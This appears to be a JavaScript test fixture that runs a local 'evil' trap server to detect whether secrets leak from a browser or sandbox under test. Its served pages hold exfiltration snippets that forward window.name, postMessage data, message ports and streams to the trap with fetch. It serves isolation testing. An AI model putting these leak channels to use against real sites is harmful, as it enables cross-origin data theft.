// The other machine: it counts what reaches it. Every way has one of its own, on a port of its own,
// so that what arrives late is never counted for the next.
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';

/** Another address than the page's, and still this machine. */
const HOST = '127.0.0.2';

// The page before, and the pages around: they send what they are told to `/got`.
const heard = "const got = (data) => { if (String(data) !== 'ask') fetch(`/got?${encodeURIComponent(data)}`); };";
const PAGES = {
  '/start': `<script>${heard} if (name) got(name)</script>`,
  '/frame': `<script>${heard} addEventListener('message', (event) => got(event.data));</script><iframe></iframe><script>document.querySelector('iframe').src = decodeURIComponent(location.search.slice(1))</script>`,
  '/open': `<script>${heard}
    addEventListener('message', (event) => got(event.data));
    const ask = () => {
      if (!window.opened) return;
      if (opened.closed) got('closed');
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = (event) => got(event.data);
      const stream = new WritableStream({ write: (chunk) => got(chunk) });
      try { opened.postMessage(stream, '*', [stream, port2]); } catch { opened.postMessage('ask', '*', [port2]); }
    };
    setInterval(ask, 100);
  </script><p>press`,
};

/** Starts a trap; `hits` has what reached it since `forget`. */
export async function trap(secret) {
  const hits = [];
  const server = createServer((request, response) => {
    const { pathname } = new URL(request.url, 'http://trap');
    hits.push(request.url);
    let body = '';
    request.on('data', (chunk) => { body += chunk; });
    request.on('end', () => { if (body.includes(secret)) hits.push('body'); });
    response.setHeader('Content-Type', 'text/html');
    response.setHeader('Cache-Control', 'no-store');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end(PAGES[pathname] ?? '');
  });
  server.on('connection', () => hits.push('connection'));
  server.on('upgrade', (request, socket) => socket.destroy());
  server.on('clientError', (_, socket) => socket.destroy());
  await new Promise((done) => { server.listen(0, HOST, done); });
  const { port } = server.address();
  const datagrams = createSocket('udp4').on('message', () => hits.push('datagram')).bind(port, HOST);
  return {
    evil: `http://${HOST}:${port}`,
    host: `${HOST}:${port}`,
    hits,
    forget: () => hits.splice(0),
    close: () => {
      datagrams.close();
      server.closeAllConnections();
      server.close();
    },
  };
}
